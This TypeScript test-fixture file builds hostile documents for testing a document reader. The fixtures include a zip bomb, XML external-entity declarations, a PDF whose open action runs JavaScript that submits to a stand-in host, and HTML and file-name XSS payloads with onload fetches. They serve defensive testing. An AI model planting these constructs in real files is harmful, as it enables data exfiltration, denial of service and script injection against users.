/** Files that are broken, hostile or not what they say, made by the tests themselves. */
import { closeSync, ftruncateSync, openSync } from 'node:fs';
import { makeDocx, makeOdt, paragraph, withDeclaredSize } from '../unit/make-office.ts';
import { linesAt, makePdf, pdfOfObjects } from '../unit/make-pdf.ts';
import { longPdf } from './document-files.ts';

/** Nothing may ever be asked of this host; whatever would be fetched is there. */
export const ELSEWHERE = 'leak.example';
const at = (path: string): string => `http://${ELSEWHERE}/${path}`;

const SAYS = 'Line manage a team of library assistants.';
const PAGE = linesAt(60, 700, [SAYS, 'Hold the library budget.']);
const TEXT = paragraph(SAYS);
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const bytesOf = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0) & 0xff);
const run = (text: string, kind = 't'): string => `<w:r><w:${kind} xml:space="preserve">${text}</w:${kind}></w:r>`;

/** A file, and what the list of files is to say of it. */
export interface BadFile {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** `read`: as far as it goes; its words are given where they tell whether it was read rightly. */
  readonly outcome: 'read' | 'refused';
  readonly says: RegExp;
}

const refused = (name: string, content: BadFile['content'], says: RegExp): BadFile => ({
  name,
  content,
  outcome: 'refused',
  says,
});
const read = (name: string, content: BadFile['content'], says = /\d+ of 44 required skills found/): BadFile => ({
  name,
  content,
  outcome: 'read',
  says,
});

const bomb = makeDocx(TEXT, { 'word/styles.xml': new Uint8Array(4 * 1024 * 1024) });
const entity = (name: string): string => `<!DOCTYPE ${name} [<!ENTITY secret SYSTEM "${at('entity')}">]>`;
const twelvePages = makePdf({ pages: Array.from({ length: 12 }, () => PAGE) });

/** What broke on its way here, or was never what its name says. */
export const BROKEN_FILES: readonly BadFile[] = [
  refused('locked.pdf', makePdf({ pages: [PAGE], locked: true }), /it is locked with a password/),
  refused('scanned.pdf', makePdf({ pages: ['picture', 'picture'] }), /its 2 pages hold no text.*\(OCR\) first/),
  read('cut.pdf', twelvePages.subarray(0, twelvePages.length * 0.6), /is cut off at its end; what is left of it was/),
  refused('stump.pdf', twelvePages.subarray(0, 40), /it is a PDF that is damaged or cut off/),
  refused('nameless.pdf', makePdf({ pages: [PAGE], font: 'nameless' }), /do not say which letters they show/),
  read('thousand pages.pdf', longPdf(1_000)),
  refused('no zip.docx', bytesOf('\u0000\u0001\u0002manage\u0000'), /it is binary data, not text/),
  refused('bomb.docx', bomb, /as a zip bomb does\. Nothing of it was unpacked/),
  refused('lying bomb.docx', withDeclaredSize(bomb, 'word/styles.xml', 1_000), /as a zip bomb does/),
  refused('entities.docx', makeDocx(paragraph('&secret;'), {}, entity('w')), /it declares entities/),
  refused('entities.odt', makeOdt('<text:p>&secret;</text:p>', undefined, entity('office')), /it declares entities/),
  read(
    'tracked.docx',
    makeDocx(`<w:p><w:del w:id="1">${run('Assist', 'delText')}</w:del><w:ins w:id="2">${run(SAYS)}</w:ins></w:p>`),
  ),
  read(
    'text box and footnote.docx',
    makeDocx(
      `<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>${TEXT}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p><w:p>${run('Advise')}<w:r><w:footnoteReference w:id="2"/></w:r></w:p>`,
    ),
  ),
  refused(
    'a sheet.odt',
    makeOdt('<text:p>x</text:p>', 'application/vnd.oasis.opendocument.spreadsheet'),
    /it is a spreadsheet, not a text document/,
  ),
  read('really a PDF.txt', makePdf({ pages: [PAGE] }), /is a PDF, whatever its ending says; it was read as one/),
  refused('empty.pdf', '', /it is empty/),
  refused('rich.rtf', '{\\rtf1 Line manage a team.}', /it is a Rich Text file \(RTF\)/),
];

/** A PDF that goes elsewhere when it is opened, runs code, sends a form, and takes a part of itself from elsewhere. */
function reachingPdf(): Uint8Array {
  const content = `BT /F1 12 Tf 60 700 Td (${SAYS}) Tj ET`;
  const file = (path: string): string => `<< /FS /URL /F (${at(path)}) >>`;
  return pdfOfObjects([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${at('open')}) /Next [<< /S /JavaScript /JS (this.submitForm\\('${at('script')}'\\); app.launchURL\\('${at('launch')}'\\);) >> << /S /SubmitForm /F ${file('form')} >> << /S /GoToR /F ${file('other.pdf')} /D [0 /Fit] >>] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Far 6 0 R >> >> /Annots [7 0 R] >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${file('picture')} /Length 0 >>\nstream\n\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${at('link')}) >> /AA << /PO << /S /URI /URI (${at('seen')}) >> >> >>`,
  ]);
}

const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="${OFFICE}" r:link="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r8" Type="${OFFICE}/attachedTemplate" Target="${at('template.dotm')}" TargetMode="External"/><Relationship Id="r9" Type="${OFFICE}/image" Target="${at('word.png')}" TargetMode="External"/></Relationships>`;

/** Whole documents that would have something fetched, or something run, by whoever shows them as they ask to be shown. */
export const REACHING_FILES: readonly BadFile[] = [
  read('reaching.pdf', reachingPdf()),
  read('reaching.docx', makeDocx(TEXT + picture, { 'word/_rels/document.xml.rels': relations })),
  read(
    'reaching.odt',
    makeOdt(
      `<text:p>${SAYS}<draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${at('odt.png')}" xlink:actuate="onLoad"/></draw:frame></text:p>`,
    ),
  ),
  read(
    'reaching.html',
    `<!doctype html><base href="${at('')}"><link rel="stylesheet" href="style.css"><meta http-equiv="refresh" content="0;url=${at('refresh')}"><script src="${at('script.js')}"></script><body background="${at('back.png')}" onload="fetch('${at('load')}')"><p>${SAYS}<img src="${at('html.png')}" onerror="alert(1)"><iframe src="${at('frame')}"></iframe><video poster="${at('poster')}" src="${at('video')}"></video>`,
  ),
  read('reaching.md', `# Librarian\n\n- ${SAYS} ![x](${at('md.png')}) <img src="${at('inline.png')}">\n`),
  read(`<img src="${at('name.png').replaceAll('/', '\u2215')}" onerror=alert(1)>\n\u202efdp.txt`, SAYS),
];

/** A file of so many bytes, which takes no room on the disk. */
export function makeHuge(path: string, bytes: number): void {
  const file = openSync(path, 'w');
  ftruncateSync(file, bytes);
  closeSync(file);
}
